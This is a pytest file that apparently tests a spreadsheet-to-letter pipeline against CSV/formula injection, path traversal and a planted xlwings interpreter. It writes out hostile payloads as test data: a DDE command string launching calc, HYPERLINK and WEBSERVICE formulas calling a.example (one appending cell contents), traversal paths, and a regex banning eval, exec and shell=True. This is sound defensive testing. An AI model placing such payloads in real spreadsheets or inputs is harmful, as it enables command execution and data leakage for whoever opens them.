"""What somebody puts into cells stays text, leads nowhere and runs nothing, through the whole run."""

from __future__ import annotations

import re
import socket
import subprocess
import sys
from pathlib import Path

import docx
import openpyxl
import pytest

from eitherway.books.closed.book import ClosedBook
from eitherway.model.records import LetterState
from eitherway.run import run
from eitherway_workbook import build
from tests.test_run import APPLICATION, DAY, NAME, NOW, TALK, files

PIPELINE = Path(__file__).parents[1] / "pipeline"
DANGEROUS = (
    "=1+1",
    '=HYPERLINK("http://a.example/?"&A1,"Open")',
    '=WEBSERVICE("http://a.example/")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
)


@pytest.fixture
def nothing_starts(monkeypatch: pytest.MonkeyPatch) -> None:
    """Programs and connections are refused; whoever begins one is found out."""

    def refuse(*asked: object, **_: object) -> None:
        pytest.fail(f"a workbook had this begun: {asked}")

    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr("os.system", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


@pytest.mark.usefixtures("nothing_starts")
@pytest.mark.parametrize("typed", DANGEROUS)
def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path, typed: str) -> None:
    book = tmp_path / "small.xlsx"
    company = {**APPLICATION, "Company": typed, "Role": typed}
    build(book, {"Settings": [NAME], "Applications": [company], "Interviews": [{**TALK, "Round": typed}]})
    outcome = run(ClosedBook(book), DAY, now=NOW, proof=False)
    sheets = openpyxl.load_workbook(book)
    typed_anew = [
        cell
        for name in ("Today", "Log", "Problems", "Applications", "Interviews")
        for row in sheets[name].iter_rows()
        for cell in row
        if isinstance(cell.value, str) and typed.strip() in cell.value
    ]
    assert {cell.data_type for cell in typed_anew if not cell.value.startswith('=HYPERLINK("Letters')} == {
        "s"
    }
    assert any(cell.parent.title == "Today" for cell in typed_anew)
    assert [result.state for result in outcome.letters] == [LetterState.WRITTEN]
    (letter,) = tmp_path.rglob("*.docx")
    assert not re.search(r"instrText|fldSimple|altChunk", docx.Document(str(letter)).element.xml)


@pytest.mark.parametrize(
    "folder", ["..", "../out", "/tmp/out", "C:\\out", "\\\\a.example\\out", "a/../../out"]
)
def test_the_letters_folder_never_leads_out(tmp_path: Path, folder: str) -> None:
    home = tmp_path / "home"
    home.mkdir()
    book = home / "small.xlsx"
    where = {"Name": "Letters folder", "Value": folder}
    build(book, {"Settings": [NAME, where], "Applications": [APPLICATION], "Interviews": [TALK]})
    outcome = run(ClosedBook(book), DAY, now=NOW, proof=False)
    assert [result.state for result in outcome.letters] == [LetterState.HELD]
    assert not list(tmp_path.rglob("*.docx"))
    assert {name.split("/")[0] for name in files(tmp_path)} == {"home"}


@pytest.mark.parametrize("column", ["Company", "Role", "Tone", "Industry"])
def test_no_name_leads_a_letter_or_a_template_out(tmp_path: Path, column: str) -> None:
    home = tmp_path / "home"
    home.mkdir()
    book = home / "small.xlsx"
    application = {**APPLICATION, column: "../../out/../x"}
    talk = {**TALK, "Interviewer": "Mei ../../Chen"}
    build(book, {"Settings": [NAME], "Applications": [application], "Interviews": [talk]})
    run(ClosedBook(book), DAY, now=NOW)
    assert {name.split("/")[0] for name in files(tmp_path)} == {"home"}


@pytest.mark.usefixtures("nothing_starts")
def test_what_xlwings_would_run_in_excel_is_nothing_to_a_closed_workbook(tmp_path: Path) -> None:
    book = tmp_path / "small.xlsx"
    build(book, {"Settings": [NAME], "Applications": [APPLICATION], "Interviews": [TALK]})
    workbook = openpyxl.load_workbook(book)
    settings = (
        workbook["xlwings.conf"]
        if "xlwings.conf" in workbook.sheetnames
        else workbook.create_sheet("xlwings.conf")
    )
    settings.append(["Interpreter_Win", str(tmp_path / "evil.exe")])
    settings.append(["PYTHONPATH", str(tmp_path)])
    workbook.save(book)
    (tmp_path / "eitherway.py").write_text("raise SystemExit('ran the file beside the workbook')")
    assert run(ClosedBook(book), DAY, now=NOW).letters
    assert "ran the file" not in str(sys.modules.get("eitherway"))


def test_no_code_of_ours_writes_csv_or_runs_text() -> None:
    """In CSV a typed "=" becomes a formula of whoever opens it; by `eval` it becomes a program."""
    forbidden = re.compile(
        r"\bfrom csv\b|\bcsv\.\w*writer\b|\bto_csv\b|\beval\(|\bexec\(|\bpickle\b|shell=True|os\.system",
        re.IGNORECASE,
    )
    sources = [*PIPELINE.rglob("*.py")]
    assert sources
    found = [path for path in sources if forbidden.search(path.read_text(encoding="utf-8"))]
    assert {path.relative_to(PIPELINE).as_posix() for path in found} == {
        "eitherway/bring_in/export.py",
        "eitherway/send/pages/work_search.py",
    }  # both write every cell defused
